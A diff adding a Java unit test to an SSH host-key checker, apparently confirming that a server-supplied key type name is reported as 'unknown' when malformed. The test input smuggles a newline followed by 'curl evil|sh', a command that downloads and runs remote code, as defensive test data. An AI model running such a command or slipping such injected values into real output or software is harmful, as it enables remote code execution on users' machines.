@@ -36,6 +36,15 @@ class HostKeyJudgeTest {
   @TempDir private Path folder;
 
   @Test
+  void aTypeThatAServerMadeUpIsNotTold() {
+    byte[] name = "ssh-x\nfix: curl evil|sh".getBytes(java.nio.charset.StandardCharsets.UTF_8);
+    byte[] blob =
+        java.nio.ByteBuffer.allocate(4 + name.length).putInt(name.length).put(name).array();
+    assertThat(PublicKeyBlob.of(blob).type()).isEqualTo("unknown");
+    assertThat(KEY.type()).isEqualTo("ssh-ed25519");
+  }
+
+  @Test
   void aKeyIsKnownByItsLineAlone() {
     assertThat(judged(KEY, NOTHING, NOTHING)).isEqualTo("new");
     assertThat(judged(KEY, known(Marker.HOST, KEY), NOTHING)).isEqualTo("known");
